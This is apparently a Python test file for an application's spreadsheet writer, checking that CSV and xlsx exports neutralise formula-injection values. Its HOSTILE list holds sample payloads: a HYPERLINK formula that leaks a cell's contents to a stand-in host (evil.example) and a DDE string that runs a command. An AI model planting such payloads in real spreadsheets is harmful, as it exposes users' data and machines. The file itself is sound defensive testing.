"""The one spreadsheet writer (app/core/spreadsheet.py) with hostile values: the files are read back with
openpyxl and the csv module, the way a spreadsheet program would see them."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.core import spreadsheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&E5,"点此核对")',
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "+1+2",
    "-5",
    "@SUM(A1:A9)",
    "  =1+2",
    "\n=1+2",
    "＝1+2",
]
HARMLESS = ["101", "幸福里 1 号楼", "a=b", "2/3", "'already quoted", "#N/A", ""]


def test_neutralise_prefixes_one_quote_exactly_when_needed() -> None:
    for v in HOSTILE:
        assert spreadsheet.neutralise(v) == "'" + v, repr(v)
    for v in HARMLESS:
        assert spreadsheet.neutralise(v) == v, repr(v)
    once = spreadsheet.neutralise(HOSTILE[0])
    assert spreadsheet.neutralise(once) == once  # idempotent: a re-check never adds a second quote


def test_xlsx_stores_hostile_text_as_text() -> None:
    wb, ws = spreadsheet.workbook("表")
    spreadsheet.append(ws, ["房号", "数量"])
    for v in HOSTILE:
        spreadsheet.append(ws, [v, 3])
    spreadsheet.put(ws, 20, 1, "=1+2")
    spreadsheet.put(ws, 21, 1, "#N/A")
    spreadsheet.put(ws, 22, 1, -5)
    spreadsheet.put(ws, 22, 2, Decimal("80.50"))
    spreadsheet.put(ws, 23, 1, "bell\x07 and \x00")
    ws.cell(row=24, column=1, value="=2+3")  # written around the writer: made safe at save time

    back = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(wb)))["表"]
    cells = [c for row in back.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    column_a = [back.cell(row=i, column=1) for i in range(2, 2 + len(HOSTILE))]
    # (XML reads a bare CR back as LF; the cell is still the quoted text)
    assert [c.value for c in column_a] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" for c in column_a)
    assert back.cell(row=2, column=2).value == 3 and back.cell(row=2, column=2).data_type == "n"
    assert back["A20"].value == "'=1+2" and back["A24"].value == "'=2+3"
    assert back["A21"].value == "#N/A" and back["A21"].data_type == "s"  # text, not an error value
    assert back["A22"].value == -5 and back["A22"].data_type == "n"  # a real negative number stays a number
    assert back["B22"].value == 80.5 and back["B22"].data_type == "n"
    assert back["A23"].value == "bell\ufffd and \ufffd"


def test_csv_quotes_text_and_keeps_numbers_bare() -> None:
    rows = [["房号", "数量"], *[[v, -5] for v in HOSTILE], ["a,b;=c", None], ["\ud800", 7]]
    data = spreadsheet.csv_bytes(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text)))
    assert table[0] == ["房号", "数量"]
    for v, row in zip(HOSTILE, table[1:], strict=False):
        assert row == ["'" + v, "-5"], repr(v)
    assert table[len(HOSTILE) + 1] == ["a,b;=c", ""]
    assert table[-1] == ["\ufffd", "7"]
    # text is quoted (a "," or ";" inside cannot open a new cell), the int -5 bare, the text "-5" neutralised
    assert '"\'-5",-5\r\n' in text and '"a,b;=c",""\r\n' in text


@pytest.mark.parametrize("bad", [1.5, True, object()])
def test_only_text_and_exact_numbers_are_cells(bad) -> None:
    with pytest.raises(TypeError):
        spreadsheet.cell_value(bad)


def test_every_export_goes_through_the_writer() -> None:
    """No module of app/ writes a workbook or a CSV by itself (reading an import file is fine)."""
    root = Path(spreadsheet.__file__).parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheet.py" and path.parent.name == "core":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|\bcsv\.(writer|DictWriter)\b", source):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
